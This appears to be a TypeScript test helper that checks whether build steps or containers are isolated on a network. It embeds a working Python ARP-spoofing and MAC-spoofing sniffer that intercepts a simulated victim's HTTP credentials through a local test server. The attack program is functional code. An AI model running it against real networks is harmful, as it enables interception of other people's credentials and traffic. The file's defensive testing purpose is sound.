// A step of a build, or a container, that reads its neighbours' traffic with raw frames, and the
// step that it is aimed at. Both meet through a server of the test at the machine's address of
// their network.
import { randomBytes } from "node:crypto";
import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { cleanLast, type WithAfter } from "./clean-last.ts";

/**
 * What the victim sends and gets, of one attack: the machine goes on sending what an earlier victim
 * had not acknowledged, to whoever has its address by now.
 */
export type Secrets = { readonly password: string; readonly answer: string };

/** Two that nobody has seen. */
function newSecrets(): Secrets {
  const mark = randomBytes(4).toString("hex");
  return { password: `VICTIM-PASSWORD-${mark}`, answer: `ANSWER-FOR-THE-VICTIM-${mark}` };
}

/** So long does the victim ask: longer than the attackers need for all their ways. */
const victimSeconds = 10;
/** Attackers that are not ended otherwise. */
const attackSeconds = 100;

/**
 * A machine under load may take longer to let a step speak than the step's kernel looks for its
 * gateway.
 */
const meetProgram = `
import errno, time, urllib.request
def meet(url):
    end = time.monotonic() + 60
    while True:
        try: return urllib.request.urlopen(url, timeout=60).read()
        except OSError as error:
            code = getattr(getattr(error, "reason", None), "errno", None)
            if code != errno.EHOSTUNREACH or time.monotonic() > end: raise
`;

/**
 * Prints `READ` and a secret for each that it has read. Tells all that the gateway is here, tells
 * the gateway that all neighbours are here, sends frames in the name of their cards, and passes on
 * what arrives for others.
 */
export function attackerProgram({ password, answer }: Secrets): string {
  return `${meetProgram}
import fcntl, os, socket, struct, sys, threading, time, urllib.request
base = sys.argv[1]
secrets = [b"${password}", b"${answer}"]
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
raw.bind(("eth0", 0))
def card(code): return fcntl.ioctl(raw, code, struct.pack("256s", b"eth0"))
mac, ip = card(0x8927)[18:24], card(0x8915)[20:24]
gateway = next(socket.inet_ntoa(struct.pack("<I", int(line.split()[2], 16))) for line in open("/proc/net/route") if line.split()[1] == "00000000" and line.split()[2] != "00000000")
meet(base + "/attacker")
at = next(line.split()[3] for line in open("/proc/net/arp") if line.split()[0] == gateway)
gateway_mac, gateway_ip = bytes.fromhex(at.replace(":", "")), socket.inet_aton(gateway)
neighbours = [ip[:3] + bytes([last]) for last in range(2, 12) if last != ip[3]]
seen, over = set(), threading.Event()
def arp(sender_mac, sender_ip, target_mac, target_ip, operation=2, source=mac):
    return target_mac + source + b"\\x08\\x06" + struct.pack("!HHBBH", 1, 0x800, 6, 4, operation) + sender_mac + sender_ip + target_mac + target_ip
def send(frame):
    try: raw.send(frame)
    except OSError: pass
def spoof():
    everybody = b"\\xff" * 6
    while not over.wait(0.02):
        way = int(time.monotonic() / 3) % 2
        if way == 0: send(arp(mac, gateway_ip, everybody, gateway_ip))
        for one in neighbours:
            if way == 0: send(arp(mac, one, gateway_mac, gateway_ip))
            else: send(gateway_mac + b"\\x02\\x42" + one + b"\\x12\\x34" + bytes(50))
        for card in (known if way == 1 else ()):
            send(gateway_mac + card + b"\\x12\\x34" + bytes(50))
known = set()
def listen():
    while not over.is_set():
        frame = raw.recv(65535)
        for secret in secrets:
            if secret in frame and secret not in seen:
                seen.add(secret)
                print("READ", secret.decode(), flush=True)
        if frame[6:12] not in (mac, gateway_mac): known.add(frame[6:12])
        if frame[:6] == mac and frame[12:14] == b"\\x08\\x00" and frame[30:34] != ip:
            send(gateway_mac + mac + frame[12:])
for work in (spoof, listen): threading.Thread(target=work, daemon=True).start()
try: urllib.request.urlopen(base + "/until-the-victim-is-done", timeout=${attackSeconds}).read()
except OSError as error: print("ENDED", error)
over.set()
print("ATTACKED")
`;
}

/** Prints `ANSWERED` when all its requests were, else `UNANSWERED`. */
export function victimProgram({ password, answer }: Secrets): string {
  return `${meetProgram}
import sys, time, urllib.request
base, missed = sys.argv[1], 0
meet(base + "/victim")
end = time.monotonic() + ${victimSeconds}
while time.monotonic() < end:
    request = urllib.request.Request(f"{base}/package", headers={"Authorization": "Basic ${password}"})
    try:
        missed += urllib.request.urlopen(request, timeout=3).read() != b"${answer}"
    except OSError:
        missed += 1
    time.sleep(0.05)
print("ANSWERED" if missed == 0 else f"UNANSWERED {missed}")
`;
}

/** The place where attackers and a victim meet. */
export type Meeting = {
  readonly url: string;
  readonly secrets: Secrets;
  /** Lets the attackers end. */
  end(): void;
};

/**
 * Opens a server at the address: the victim begins when so many attackers have, and they end after
 * it.
 */
export async function openMeeting(t: WithAfter, host: string, attackers: number): Promise<Meeting> {
  const secrets = newSecrets();
  const waiting: (() => void)[] = [];
  const attacking: (() => void)[] = [];
  const server = createServer((request, response) => {
    const end = (): void => void response.end();
    if (request.url === "/victim") waiting.push(end);
    else if (request.url === "/until-the-victim-is-done") attacking.push(end);
    else response.end(request.url === "/package" ? secrets.answer : "");
    if (attacking.length >= attackers) for (const go of waiting.splice(0)) go();
  });
  server.listen(0, host);
  await once(server, "listening");
  cleanLast(t, () => {
    server.closeAllConnections();
    server.close();
  });
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://${host}:${port}`,
    secrets,
    end(): void {
      for (const stop of attacking.splice(0)) stop();
    },
  };
}
